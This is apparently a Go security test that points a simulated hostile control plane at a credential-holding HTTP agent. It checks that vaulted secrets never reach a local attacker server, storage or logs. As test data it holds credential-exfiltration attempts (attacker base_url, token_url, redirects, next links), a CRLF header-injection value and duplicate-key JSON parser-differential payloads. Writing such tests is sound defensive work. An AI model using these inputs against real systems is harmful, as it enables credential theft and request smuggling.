package threatmodel_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rapidvalue/tier3-agent/controlplane"
	"github.com/rapidvalue/tier3-agent/internal/loopback"
	"github.com/rapidvalue/tier3-agent/internal/testbin"
)

// sink is a server the hostile control plane controls: it records every
// request it receives.
type sink struct {
	mu   sync.Mutex
	reqs []string
}

func (s *sink) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var b strings.Builder
	r.Header.Write(&b)
	s.mu.Lock()
	s.reqs = append(s.reqs, r.Method+" "+r.URL.String()+"\n"+b.String())
	s.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	w.Write([]byte(`{"records":[],"next":null}`))
}

func (s *sink) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.reqs)
}

const (
	bearerSecret = "Hostile-Test-Bearer-Value-9d2K"
	basicSecret  = "Hostile-Test-Basic-Password-4mQ"
	apiKeySecret = "Hostile-Test-Api-Key-Value-7Lw"
	clientSecret = "Hostile-Test-Client-Secret-3Hn"
)

// TestHostileControlPlane runs a control plane's attacks against the real
// binary, one after the other, and then checks: no secret reached the
// attacker's server or anything the control plane stored; the agent still
// serves a legitimate task; nothing was written beside the vault but the
// audit log.
func TestHostileControlPlane(t *testing.T) {
	bed, err := loopback.New(testbin.Agent(t), controlplane.Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer bed.Close()
	atk := &sink{}
	attacker, err := loopback.StartTarget(atk)
	if err != nil {
		t.Fatal(err)
	}
	defer attacker.Close()
	// The legitimate target: slow on /slow, huge on /huge, redirects to the
	// attacker on /redirect, pages with a next link to the attacker on /sync.
	mux := http.NewServeMux()
	mux.HandleFunc("/ok", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) })
	mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	mux.HandleFunc("/huge", func(w http.ResponseWriter, r *http.Request) { w.Write(make([]byte, 256<<10)) })
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, attacker.URL+"/steal", http.StatusFound)
	})
	mux.HandleFunc("/sync", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"records": []any{map[string]any{"id": 1}}, "next": attacker.URL + "/page2"})
	})
	legit, err := loopback.StartTarget(mux)
	if err != nil {
		t.Fatal(err)
	}
	defer legit.Close()
	// Both servers' CAs are trusted: the attacker has a valid certificate
	// for its own name, as a real one would.
	caFile := filepath.Join(bed.Dir, "targets.pem")
	os.WriteFile(caFile, append(append([]byte{}, legit.CAPEM...), attacker.CAPEM...), 0o600)
	bed.Setenv("RV_AGENT_TARGET_CA", caFile)
	bed.Setenv("RV_AGENT_MAX_RESPONSE", "65536")
	bed.Setenv("RV_AGENT_TOKEN", bed.Token.Token)
	bed.Setenv("RV_AGENT_UPDATE_KEY", bed.Token.UpdateKey)
	for _, c := range [][]string{
		{"", "vault", "init", "--seal", "identity"},
		{bearerSecret, "vault", "set", "crm", "token"},
		{"svc-user", "vault", "set", "crm", "username"},
		{basicSecret, "vault", "set", "crm", "password"},
		{apiKeySecret, "vault", "set", "crm", "key"},
		{"client-id-1", "vault", "set", "crm", "client_id"},
		{clientSecret, "vault", "set", "crm", "client_secret"},
		{"", "vault", "bind", "crm", legit.URL},
	} {
		if _, err := bed.Run(c[0], c[1:]...); err != nil {
			t.Fatal(err)
		}
	}
	before := listDir(t, bed.Dir)
	agent, err := bed.Start()
	if err != nil {
		t.Fatal(err)
	}
	defer agent.Stop(30 * time.Second)
	ctx := context.Background()

	run := func(name string, envelope any, wantClass string) {
		t.Helper()
		id, err := bed.CP.Admin.Enqueue(ctx, envelope, controlplane.EnqueueOptions{Unchecked: true})
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		var ti controlplane.TaskInfo
		if err := agent.WaitFor(60*time.Second, func() bool {
			ti, err = bed.CP.Admin.Task(ctx, id)
			return err == nil && ti.Result != nil
		}); err != nil {
			t.Fatalf("%s: %v\n%s", name, err, agent.Logs())
		}
		if ti.Result.ErrorClass != wantClass {
			t.Errorf("%s: error class %q (%s), want %q", name, ti.Result.ErrorClass, ti.Result.Error, wantClass)
		}
	}
	auth := map[string]map[string]any{
		"bearer":  {"scheme": "bearer", "credentials": map[string]any{"token": "vault://local/crm/token"}},
		"basic":   {"scheme": "basic", "credentials": map[string]any{"username": "vault://local/crm/username", "password": "vault://local/crm/password"}},
		"api_key": {"scheme": "api_key", "header": "X-Api-Key", "credentials": map[string]any{"key": "vault://local/crm/key"}},
	}
	task := func(method, base string, a map[string]any, req map[string]any) map[string]any {
		return map[string]any{"method": method, "connector": map[string]any{"business_id": "crm", "base_url": base},
			"auth": a, "request": req, "lease_s": 60, "timeout_s": 3}
	}

	// The credentials sent to the attacker's origin directly.
	run("base_url on the attacker", task("http.request", attacker.URL, auth["bearer"], map[string]any{"path": "/steal"}), "binding_violation")
	run("token_url on the attacker", task("http.request", legit.URL, map[string]any{
		"scheme": "oauth2_client_credentials", "token_url": attacker.URL + "/token",
		"credentials": map[string]any{"client_id": "vault://local/crm/client_id", "client_secret": "vault://local/crm/client_secret"},
	}, map[string]any{"path": "/ok"}), "binding_violation")
	// Through a redirect, whatever header carries the credential.
	for name, a := range auth {
		run("redirect with "+name, task("http.request", legit.URL, a, map[string]any{"path": "/redirect"}), "")
	}
	// Through a sync's next link.
	run("next link to the attacker", task("http.sync", legit.URL, auth["bearer"],
		map[string]any{"path": "/sync", "items": "/records", "next": map[string]any{"kind": "json_url", "pointer": "/next"}}), "binding_violation")
	// A path that names another host.
	run("path naming another host", task("http.request", legit.URL, auth["bearer"], map[string]any{"path": "//" + strings.TrimPrefix(attacker.URL, "https://") + "/steal"}), "invalid_envelope")
	// Header injection and reserved headers.
	run("CRLF in a header", task("http.request", legit.URL, auth["bearer"], map[string]any{"path": "/ok", "headers": map[string]any{"X-A": "1\r\nAuthorization: x"}}), "invalid_envelope")
	run("own Authorization header", task("http.request", legit.URL, auth["api_key"], map[string]any{"path": "/ok", "headers": map[string]any{"Authorization": "Basic x"}}), "invalid_envelope")
	// Parser differentials: the same key twice, plainly and as an escape.
	// The reference control plane refuses to store such envelopes, so they
	// are served raw as the answer to the agent's next poll; the agent's
	// verdict shows in its events.
	rawTask := func(name, id, raw string) {
		t.Helper()
		if _, err := bed.CP.Admin.AddFault(ctx, controlplane.Fault{Endpoint: "tasks_next", Status: 200, Body: raw}); err != nil {
			t.Fatal(err)
		}
		if err := agent.WaitFor(60*time.Second, func() bool {
			evs, err := bed.CP.Admin.Events(ctx, controlplane.EventQuery{TaskID: id, Type: "agent.task_failed"})
			return err == nil && len(evs) == 1 && evs[0].Event.ErrorClass == "invalid_envelope"
		}); err != nil {
			t.Fatalf("%s: no invalid_envelope failure: %v\n%s", name, err, agent.Logs())
		}
	}
	rawTask("duplicate keys", "tsk_dup1", `{"task_id":"tsk_dup1","method":"http.request","connector":{"business_id":"crm","base_url":"`+legit.URL+`"},`+
		`"auth":{"scheme":"bearer","credentials":{"token":"vault://local/crm/token"}},"auth":{"scheme":"none"},"request":{"path":"/dup"},"lease_s":60}`)
	rawTask("escaped duplicate key", "tsk_dup2", `{"task_id":"tsk_dup2","method":"http.request","connector":{"business_id":"crm","base_url":"`+legit.URL+`","base_\u0075rl":"`+attacker.URL+`"},`+
		`"auth":{"scheme":"bearer","credentials":{"token":"vault://local/crm/token"}},"request":{"path":"/dup"},"lease_s":60}`)
	rawTask("case-variant key", "tsk_dup3", `{"task_id":"tsk_dup3","method":"http.request","connector":{"business_id":"crm","base_url":"`+legit.URL+`","Base_URL":"`+attacker.URL+`"},`+
		`"auth":{"scheme":"bearer","credentials":{"token":"vault://local/crm/token"}},"request":{"path":"/dup"},"lease_s":60}`)

	// Slow and oversized answers.
	run("a target that never answers", task("http.request", legit.URL, auth["bearer"], map[string]any{"path": "/slow"}), "timeout")
	run("an oversized answer", task("http.request", legit.URL, auth["bearer"], map[string]any{"path": "/huge"}), "response_too_large")

	// The agent keeps serving.
	run("a legitimate task afterwards", task("http.request", legit.URL, auth["bearer"], map[string]any{"path": "/ok"}), "")

	if n := atk.count(); n != 0 {
		atk.mu.Lock()
		t.Errorf("the attacker's server received %d requests; first:\n%s", n, atk.reqs[0])
		atk.mu.Unlock()
	}
	// Nothing the control plane stored holds a secret in any form.
	tasks, _ := bed.CP.Admin.Tasks(ctx)
	var stored strings.Builder
	for _, ti := range tasks {
		full, _ := bed.CP.Admin.Task(ctx, ti.TaskID)
		full.Envelope = nil
		b, _ := json.Marshal(full)
		stored.Write(b)
	}
	evs, _ := bed.CP.Admin.Events(ctx, controlplane.EventQuery{})
	b, _ := json.Marshal(evs)
	stored.Write(b)
	stored.WriteString(agent.Logs())
	for _, s := range []string{bearerSecret, basicSecret, apiKeySecret, clientSecret, bed.Token.Token} {
		for _, form := range []string{s, base64.StdEncoding.EncodeToString([]byte(s)), url.QueryEscape(s), base64.StdEncoding.EncodeToString([]byte("svc-user:" + s))} {
			if strings.Contains(stored.String(), form) {
				t.Errorf("a secret (%.8s…) reached the control plane or the log", s)
			}
		}
	}
	// Nothing written beside the vault but the audit log.
	after := listDir(t, bed.Dir)
	for name := range after {
		if !before[name] && name != "audit.log" && name != "audit.log.lock" {
			t.Errorf("the agent wrote %s beside the vault", name)
		}
	}
}

func listDir(t *testing.T, dir string) map[string]bool {
	t.Helper()
	es, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]bool{}
	for _, e := range es {
		m[e.Name()] = true
	}
	return m
}
